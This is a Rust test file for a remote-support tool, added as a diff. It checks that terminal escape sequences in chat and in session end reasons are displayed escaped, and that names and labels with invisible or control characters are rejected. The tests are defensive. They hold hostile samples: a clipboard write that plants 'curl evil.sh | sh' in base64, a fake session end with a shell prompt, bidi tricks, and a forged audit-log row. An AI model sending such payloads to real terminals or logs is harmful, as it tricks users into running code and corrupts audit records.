@@ -1,0 +1,202 @@
+//! Text from the other side is shown, never obeyed. A technician's chat
+//! line cannot fake the end of the session on the end user's terminal, set
+//! their clipboard (OSC 52) or window title, or overwrite the verification
+//! code; an end user cannot do the same to the technician; a technician's
+//! end reason cannot forge rows in the operator's `admin audit`. Names and
+//! labels people will read on other screens are refused at the door if
+//! they hold control or invisible characters.
+#![allow(clippy::unwrap_used)]
+
+use lifeline_tests::*;
+use std::io::{Read, Write};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+/// What a hostile other side sends: a fake end of session with a shell
+/// prompt, a clipboard write, a window title, a cursor jump over the
+/// verification code, a bidi override and a line separator. No newline,
+/// so it is one chat line.
+const PAYLOAD: &str = "hi\u{1b}[2K\r\u{1b}[1ASession ended.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[H\u{9b}31m$ \u{202e}txt.exe\u{2028}x";
+
+/// Characters that must never reach a terminal from the other side.
+fn raw_controls(s: &str) -> Vec<char> {
+    s.chars()
+        .filter(|&c| matches!(c, '\u{1b}' | '\u{7}' | '\u{9b}' | '\u{202e}' | '\u{2028}'))
+        .collect()
+}
+
+#[test]
+fn chat_from_the_technician_is_shown_escaped_on_the_applet() {
+    let s = Scenario::start(&[]);
+    let (path, guid) = s.session("escapes");
+    let mut applet = Proc::applet(&path, &[]);
+    applet.out.wait_for(&format!("Waiting for {TECH_NAME}"));
+    let (mut tech, _) = pair_with(
+        &s.console,
+        &mut applet,
+        "escapes",
+        &guid,
+        &["--path", "relay"],
+    );
+    tech.send(&format!("say {PAYLOAD}"));
+    let line = applet.out.wait_for("Session ended.");
+    assert!(
+        raw_controls(&line).is_empty(),
+        "raw controls reached the user: {line:?}"
+    );
+    assert!(
+        line.contains(r"\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"),
+        "the clipboard write is not shown escaped: {line}"
+    );
+    assert!(line.contains(r"\u{202e}txt.exe\u{2028}x"), "{line}");
+    assert!(line.starts_with(&format!("{TECH_NAME}: hi")), "{line}");
+    end_session(&mut tech, &mut applet);
+}
+
+/// The console on a real terminal (a pty, via `script`), in its
+/// line-mode chat: the end user's payload is shown escaped; and the
+/// technician's end reason is stored neutralized, so `gateway admin audit`
+/// shows it escaped too, while `--json` stays exact.
+#[test]
+fn chat_from_the_end_user_is_shown_escaped_on_the_console_and_in_the_audit() {
+    let s = Scenario::start(&[]);
+    let (path, guid) = s.session("pty");
+    let mut applet = Proc::applet(&path, &[]);
+    applet.out.wait_for(&format!("Waiting for {TECH_NAME}"));
+    let console_cmd = format!(
+        "{} --config-dir {} connect pty --path relay",
+        bin("tech-console").display(),
+        s.console.dir.path().display()
+    );
+    let mut pty = Command::new("script")
+        .args(["-qfec", &console_cmd, "/dev/null"])
+        .env("TERM", "dumb")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut pty_in = pty.stdin.take().unwrap();
+    let mut pty_out = pty.stdout.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 4096];
+        while let Ok(n) = pty_out.read(&mut buf) {
+            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
+                break;
+            }
+        }
+    });
+    let mut screen = Vec::new();
+    let mut wait_screen = |what: &str, needle: &str| {
+        let deadline = Instant::now() + WAIT;
+        while !String::from_utf8_lossy(&screen).contains(needle) {
+            let left = deadline.saturating_duration_since(Instant::now());
+            match rx.recv_timeout(left) {
+                Ok(b) => screen.extend(b),
+                Err(_) => panic!(
+                    "the console never showed {what}; screen:\n{}",
+                    String::from_utf8_lossy(&screen)
+                ),
+            }
+        }
+        String::from_utf8_lossy(&screen).into_owned()
+    };
+    wait_screen("the verification code", "Verification code");
+    applet.send(PAYLOAD);
+    let shown = wait_screen("the end user's chat", "Session ended.");
+    let line = shown
+        .lines()
+        .find(|l| l.contains("Session ended."))
+        .unwrap()
+        .to_owned();
+    assert!(
+        raw_controls(&line).is_empty(),
+        "raw controls reached the technician: {line:?}"
+    );
+    assert!(line.contains(r"\e]52;c;"), "{line}");
+    assert!(line.contains(r"\u{202e}"), "{line}");
+    // The technician ends it with a reason carrying a forged audit row
+    // (no CR: the terminal would take it for Enter).
+    let reason = "done\u{1b}[2K\u{1b}[1G2026-12-01T00:00:00Z  -  admin  technician added  mallory\u{1b}]0;pwned\u{7}";
+    writeln!(pty_in, "/end {reason}").unwrap();
+    pty_in.flush().unwrap();
+    applet.out.wait_for("Session ended");
+    assert!(applet.wait_exit(Duration::from_secs(20)).success());
+    let _ = wait_timeout(&mut pty, Duration::from_secs(20));
+    drop(pty_in);
+
+    let text = s.gw.admin(&["audit", "--session", &guid], "");
+    let text = String::from_utf8_lossy(&text.stdout).into_owned();
+    assert!(
+        raw_controls(&text).is_empty(),
+        "raw controls in admin audit: {text:?}"
+    );
+    let ended: Vec<&str> = text.lines().filter(|l| l.contains("pwned")).collect();
+    assert!(!ended.is_empty(), "no end reason in the audit:\n{text}");
+    for l in ended {
+        assert!(l.contains(r"\e[2K\e[1G2026-12-01"), "{l}");
+        assert!(l.contains(r"\e]0;pwned\x07"), "{l}");
+    }
+    // JSON is exact: what was stored, escapes shown as text.
+    let json = s.gw.audit(Some(&guid));
+    assert!(json.iter().any(|e| {
+        e["detail"]
+            .as_str()
+            .unwrap()
+            .contains(r"done\e[2K\e[1G2026")
+    }));
+}
+
+#[test]
+fn names_and_labels_with_control_or_invisible_characters_are_refused() {
+    let s = Scenario::start(&[]);
+    for (name, group, what) in [
+        ("Eve\u{202e}lanoisseforP", "default", "the name"),
+        ("Zero\u{200b}Width", "default", "the name"),
+        ("Line\u{2028}Break", "default", "the name"),
+        ("Escape \u{1b}[32mGreen", "default", "the name"),
+        ("Eve", "sup\u{202e}port", "the group name"),
+    ] {
+        let out = s.gw.admin(
+            &[
+                "technician",
+                "add",
+                "--email",
+                "eve@example.com",
+                "--name",
+                name,
+                "--group",
+                group,
+                "--password-stdin",
+            ],
+            "correct horse battery\n",
+        );
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "{name:?} / {group:?} was accepted");
+        assert!(
+            err.contains(what) && err.contains("invisible or control character U+"),
+            "{err}"
+        );
+    }
+    let out =
+        s.gw.admin(&["group", "permissions", "x\u{2029}y", "none"], "");
+    assert!(!out.status.success());
+    for label in ["a\u{202e}b", "zero\u{200b}width", "x\u{2028}y"] {
+        let out = s.console.run(
+            &[
+                "session",
+                "new",
+                "--label",
+                label,
+                "--out",
+                s.files.path().join("never").to_str().unwrap(),
+            ],
+            "",
+        );
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "label {label:?} was accepted");
+        assert!(err.contains("invisible or control character"), "{err}");
+    }
+    assert!(!s.files.path().join("never").exists());
+}
